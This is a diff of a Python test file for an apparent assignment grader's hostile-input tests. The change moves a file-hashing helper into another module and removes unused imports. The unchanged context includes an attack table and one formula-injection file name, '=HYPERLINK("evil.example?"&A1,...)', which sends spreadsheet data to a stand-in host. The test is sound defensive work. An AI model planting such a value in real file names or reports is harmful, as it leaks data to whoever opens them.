@@ -12,12 +12,10 @@ from __future__ import annotations
 
 import argparse
 import csv
-import hashlib
 import json
 import os
 import pickle
 import shutil
-import stat
 import subprocess
 import sys
 import tracemalloc
@@ -34,6 +32,7 @@ import pytest
 from nnspec.grade import batch, cli, config, escape, frameworks, reports, unpickle, wire
 from nnspec.grade.runner import GradeRun, RequirementResult
 from spec.requirements import Requirement
+from tests.hostile_checks import listing
 from tests.test_grader import GRADESCOPE_SCHEMA, HOSTILE_REQUIREMENTS
 
 REPOSITORY = Path(__file__).resolve().parents[1]
@@ -42,7 +41,6 @@ LIMIT = 1 << 20  # the message size the unit tests allow
 ALLOCATION_SLACK = 1 << 18  # bookkeeping of decoding, on top of the message and the arrays it may hold
 REPORT_BYTES = 200_000  # no report of a 4-requirement grading comes near this, whatever the submission said
 GRADER_TIMEOUT_S = 300  # a grading that has not ended by then has hung (the tests do not time the grader)
-SKIPPED_DIRS = {".git", ".venv", "__pycache__", ".mypy_cache", ".ruff_cache", ".hypothesis", ".pytest_cache"}
 
 
 # --- forged pickles ------------------------------------------------------------------------------------------------
@@ -343,19 +341,6 @@ ATTACKS = {
     "layout_huge_py": Attack(1, RULE_FAILS, "larger than", where="IMPL-NO-FRAMEWORKS"),
 }
 FORMULA_NAME = '=HYPERLINK("evil.example?"&A1,"grade").py'
-
-
-def listing(root: Path, skip: set[str] = SKIPPED_DIRS) -> dict[str, str]:
-    """Every entry under ``root``: its kind, and the hash of each regular file (a FIFO is never opened)."""
-    entries = {}
-    for folder, directories, files in os.walk(root):
-        directories[:] = [name for name in directories if name not in skip]
-        for name in directories + files:
-            path = Path(folder, name)
-            mode = path.lstat().st_mode
-            digest = hashlib.sha256(path.read_bytes()).hexdigest() if stat.S_ISREG(mode) else oct(mode)
-            entries[str(path.relative_to(root))] = digest
-    return entries
 
 
 @dataclass
